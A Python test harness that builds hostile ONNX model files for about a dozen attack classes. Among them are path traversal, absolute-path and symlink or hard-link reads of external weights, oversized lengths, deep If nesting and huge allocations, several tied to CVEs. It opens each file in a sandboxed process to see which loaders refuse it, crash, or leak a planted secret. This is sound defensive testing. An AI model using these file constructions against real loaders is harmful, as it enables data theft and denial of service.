#!/usr/bin/env python3
"""What ONNX loaders do with hostile files: writes one file for each class of attack, opens each in a process of its own.

    hostile.py --out DIR [--open PROGRAM] [--markdown]

PROGRAM is `runtime/examples/open.rs`, built with feature `tract`; without it dreamlet and tract are left out. A process that takes
over 10 s or 4 GiB of address space is ended. Of data outside the folder of the model it is told whether it was read: the
secret has a number that a loader has no other way to know. The same classes are tests in onnx/tests/named_attacks.rs.
"""

import argparse
import json
import os
import pathlib
import resource
import subprocess
import sys
import time

import numpy
import onnx
from onnx import TensorProto, helper

# Elements of the secret, and what they are.
COUNT, SECRET = 1024, 7.25


def graph(nodes=(), weights=None, extra=(), inputs=()):
    """latent [1, 4] -> Gemm -> [1, 256], as an image; `weights` takes the place of Gemm's."""
    weights = weights or helper.make_tensor("w", TensorProto.FLOAT, [4, 256], numpy.ones(COUNT, numpy.float32).tobytes(), raw=True)
    base = [
        helper.make_node("Gemm", ["latent", "w"], ["row"]),
        helper.make_node("Reshape", ["row", "shape"], ["image"]),
    ]
    made = helper.make_graph(
        [*base, *nodes],
        "g",
        [helper.make_tensor_value_info("latent", TensorProto.FLOAT, [1, 4]), *inputs],
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, [1, 1, 16, 16])],
        [weights, helper.make_tensor("shape", TensorProto.INT64, [4], [1, 1, 16, 16]), *extra],
    )
    return helper.make_model(made, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)


def external(location, **entries):
    """A model whose weights are in another file."""
    weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4, 256], data_location=TensorProto.EXTERNAL)
    for key, value in {"location": location, **entries}.items():
        weights.external_data.add(key=key, value=value)
    return graph(weights=weights)


def nested(depth):
    """If within If: both branches of each hold the next, of which only the first is not empty."""
    leaf = helper.make_graph(
        [helper.make_node("Identity", ["latent"], ["end"])], "leaf", [], [helper.make_tensor_value_info("end", TensorProto.FLOAT, None)]
    )
    for level in range(depth):
        node = helper.make_node("If", ["yes"], [f"y{level}"], then_branch=leaf, else_branch=leaf)
        leaf = helper.make_graph([node], f"g{level}", [], [helper.make_tensor_value_info(f"y{level}", TensorProto.FLOAT, None)])
    return graph([*leaf.node], extra=[helper.make_tensor("yes", TensorProto.BOOL, [], [True])])


def cases(out):
    """Class of attack -> (what it is, path of the model)."""
    secret = numpy.full(COUNT, SECRET, numpy.float32).tobytes()
    made = {}

    def add(name, what, model, prepare=None):
        folder = out / name / "models"
        folder.mkdir(parents=True, exist_ok=True)
        (out / name / "secret").write_bytes(secret)
        if prepare:
            prepare(folder)
        path = folder / "model.onnx"
        path.write_bytes(model.SerializeToString())
        made[name] = (what, path)

    def link(folder):
        (folder / "weights").unlink(missing_ok=True)
        (folder / "weights").symlink_to(folder.parent / "secret")

    def linked_folder(folder):
        (folder / "link").unlink(missing_ok=True)
        (folder / "link").symlink_to(folder.parent)

    def hard(folder):
        (folder / "weights").unlink(missing_ok=True)
        os.link(folder.parent / "secret", folder / "weights")

    def weights(folder):
        (folder / "weights").write_bytes(secret)

    add("traversal", "weights at `../secret` (CVE-2022-25882)", external("../secret"))
    add("absolute", "weights at an absolute path (CVE-2024-27318)", external(str((out / "absolute" / "secret").resolve())))
    add("linked-folder", "weights at `link/secret`, a linked folder (CVE-2026-27489)", external("link/secret"), linked_folder)
    add("symlink", "weights are a symbolic link (CVE-2026-34447)", external("weights"), link)
    add("hardlink", "weights are a hard link (CVE-2026-34446)", external("weights"), hard)
    add("keys", "a key of external data is `__class__` (CVE-2026-34445)", external("weights", __class__="x"), weights)
    add("length", "external data of 2^62 bytes (CVE-2026-34445)", external("weights", length=str(1 << 62)), weights)
    add("nested-if", "`If` in both branches of `If`, 12 deep", nested(12))
    short = helper.make_tensor("w", TensorProto.FLOAT, [4, 256], b"\0" * 4 * COUNT, raw=True)
    short.raw_data = b"\0" * 100
    add("raw-data", "`raw_data` shorter than the shape (tract 2390)", graph(weights=short))
    for op in ["Concat", "Squeeze", "Gemm", "Reshape"]:
        node = onnx.NodeProto(op_type=op, output=["bad"], name="bad")
        add(f"arity-{op}", f"`{op}` without inputs (tract 2391)", graph([node]))
    huge = helper.make_tensor("huge", TensorProto.INT64, [2], [1 << 20, 1 << 20])
    add("huge", "`ConstantOfShape` of 2^40 elements", graph([helper.make_node("ConstantOfShape", ["huge"], ["made"])], extra=[huge]))
    declared = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1 << 30, 1 << 30])
    add("declared", "weights of 2^60 elements without data", graph(weights=declared))
    return made


# Each gets the path as its argument; ends with 0 for opened, 1 for refused.
ENGINES = {
    "onnx checker": "import onnx, sys; onnx.checker.check_model(sys.argv[1]); print('opened')",
    "onnx.load": """
import onnx, sys
from onnx import numpy_helper
model = onnx.load(sys.argv[1])
print('secret' if any(float(numpy_helper.to_array(t).flat[0]) == 7.25 for t in model.graph.initializer if t.name == 'w') else 'opened')""",
    "onnxruntime": """
import numpy, onnxruntime, sys
made = onnxruntime.InferenceSession(sys.argv[1], providers=['CPUExecutionProvider'])
image = made.run(None, {'latent': numpy.ones((1, 4), numpy.float32)})[0]
print('secret' if image.flat[0] == 4 * 7.25 else 'opened')""",
}


def limited():
    resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))


def attempt(command):
    """What came of it, seconds, the last line that it said."""
    begin = time.monotonic()
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=10, preexec_fn=limited, check=False)
    except subprocess.TimeoutExpired:
        return "over 10 s", 10.0, ""
    seconds = time.monotonic() - begin
    words = (done.stdout + done.stderr).strip().splitlines()
    last = words[-1] if words else ""
    if "panicked at" in done.stderr:
        result = "panics"
    elif done.returncode < 0:
        result = f"dies of signal {-done.returncode}"
    elif "MemoryError" in done.stderr or "bad_alloc" in done.stderr or "memory allocation" in done.stderr:
        result = "asks for all memory"
    elif done.returncode:
        result = "refused"
    elif last == "secret":
        result = "reads the secret"
    else:
        result = "opened"
    return result, seconds, last


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", type=pathlib.Path, required=True, help="where the files go")
    parser.add_argument("--open", help="the program of runtime/examples/open.rs")
    parser.add_argument("--markdown", action="store_true", help="a table, not JSON")
    args = parser.parse_args()
    commands = {name: [sys.executable, "-c", code] for name, code in ENGINES.items()}
    if args.open:
        commands = {"dreamlet": [args.open, "dreamlet"], "tract": [args.open, "tract"], **commands}
    found = {}
    for name, (what, path) in cases(args.out).items():
        found[name] = {"what": what, **{engine: attempt([*command, str(path)]) for engine, command in commands.items()}}
        print(name, {engine: found[name][engine] for engine in commands}, file=sys.stderr)
    if args.markdown:
        print("| class of attack |", " | ".join(commands), "|")
        print("| --- |", " | ".join("---" for _ in commands), "|")
        for result in found.values():
            print("|", result["what"], "|", " | ".join(result[engine][0] for engine in commands), "|")
    else:
        json.dump(found, sys.stdout, indent=1)


if __name__ == "__main__":
    main()
